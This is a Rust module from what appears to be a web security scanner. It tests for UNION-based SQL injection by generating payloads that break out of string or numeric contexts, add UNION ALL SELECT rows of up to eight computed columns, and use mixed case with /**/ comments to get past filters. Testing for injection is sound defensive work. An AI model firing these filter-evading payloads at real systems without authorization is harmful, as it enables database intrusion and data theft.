//! SQL by what another SELECT adds to the rows that are shown.

use crate::checks::injection::computed;
use crate::checks::{Bench, Entry};
use crate::point::Point;
use crate::proof::Proof;

/// Where a value may stand, up to its end and what makes the rest of the statement a comment. What is put in matches no row
/// of its own, so that a page for one row shows ours.
const STRINGS: &[(&str, &str)] =
    &[("{v}zq'", "--\t"), ("{v}zq')", "--\t"), ("{v}zq\"", "--\t"), ("{v}zq'", "#")];
const NUMBERS: &[(&str, &str)] = &[("0-1", ""), ("0-1)", "--\t")];

/// Most columns.
const COLUMNS: usize = 8;

/// Payloads in whose columns a calculation stands. Mixed letters and comments in place of blanks are the same to every
/// database, and to few filters.
fn templates(point: &Point) -> Vec<String> {
    let is_number = point.value.trim().parse::<f64>().is_ok();
    let numbers = if is_number { NUMBERS } else { &[] };
    let places = numbers.iter().chain(STRINGS);
    let make = |(begin, end): &(&str, &str), count: usize| {
        let columns = vec!["{a}*{b}"; count].join(",");
        format!("{begin}/**/UnIoN/**/aLl/**/SeLeCt/**/{columns}{end}")
    };
    places.flat_map(|place| (1..=COLUMNS).map(move |count| make(place, count))).collect()
}

/// Proves that a calculation in added rows is shown.
pub(super) async fn prove(bench: &Bench<'_>, entry: &Entry, point: &Point) -> Option<(String, Proof)> {
    let templates = templates(point);
    let templates: Vec<&str> = templates.iter().map(String::as_str).collect();
    computed::prove_first(bench, entry, point, &computed::attempts(&templates, entry, point)).await
}
